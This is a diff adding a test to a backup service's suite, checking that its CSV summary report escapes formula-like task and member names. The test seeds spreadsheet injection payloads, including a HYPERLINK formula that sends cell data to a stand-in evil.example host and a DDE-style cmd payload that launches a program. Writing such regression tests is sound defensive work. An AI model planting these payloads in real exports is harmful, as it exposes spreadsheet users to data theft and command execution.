@@ -195,6 +195,37 @@ t.test('summary report: CSV attachment, to summary_report recipients only, addre
   t.equal((await api.request('GET', '/v1/notifications/summary-report/preview', { key: b.key })).text.trim().split('\n').length, 1, 'another account sees only its own (empty) report');
 });
 
+t.test('CSV injection: a task named =HYPERLINK(…) and formula-like member names come out of the summary report as text', async (t) => {
+  const { api } = await shared();
+  const a = await api.signUp({ name: 'Formula Victim' });
+  const db = api.deps.db;
+  const taskId = newId('task');
+  const evilTask = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+  await db.insert(tasks).values({ id: taskId, accountId: a.accountId, name: evilTask, plan: 'business', connectionStatus: 'connected', version: 1 });
+  const finishedAt = new Date('2026-03-10T03:00:00Z');
+  for (const [name, error] of [['@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3'], ['+1 555 0100', '\t=1+1']] as const) {
+    const entityId = newId('ent');
+    await db.insert(entities).values({ id: entityId, accountId: a.accountId, taskId, kind: 'member', dropboxId: `dbmid:${entityId}`, name, email: `${entityId}@acme.test`, dropboxStatus: 'active', status: 'success', itemCount: 1, sizeBytes: 1 });
+    await db.insert(backupRuns).values({
+      id: newId('run', finishedAt.getTime()), accountId: a.accountId, taskId, entityId, state: 'failed', reason: 'scheduled', mode: 'incremental',
+      startedAt: new Date(finishedAt.getTime() - 60_000), finishedAt, error,
+    });
+  }
+  const overview = await api.request('GET', '/v1/notifications/summary-report/preview', { key: a.key });
+  t.equal(overview.status, 200);
+  t.same(overview.text.trim().split('\n'), [
+    'type,task,entity,status,runs,succeeded,partial,failed,new,changed,deleted,items,size_bytes,last_finished_at,details',
+    `backup,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",'+1 555 0100,success,1,0,0,1,0,0,0,1,1,2026-03-10T03:00:00.000Z,'\t=1+1`,
+    `backup,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",'@SUM(1+1)*cmd|' /C calc'!A0,success,1,0,0,1,0,0,0,1,1,2026-03-10T03:00:00.000Z,'-2+3`,
+  ]);
+  const failures = await api.request('GET', '/v1/notifications/summary-report/preview?format=backup_failure_details', { key: a.key });
+  for (const line of failures.text.trim().split('\n').slice(1)) {
+    const cells = line.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
+    t.notOk(cells.some((c) => /^[=+\-@\t\r]/.test(c)), `no cell of ${JSON.stringify(line)} starts a formula`);
+  }
+  t.match(failures.text, /,"'=HYPERLINK\(""https:/);
+});
+
 t.test('summary report: signed download link, failure-details format, only_on_failure, scheduled once per period', async (t) => {
   const now = NOW;
   const { api, smtp } = await shared();
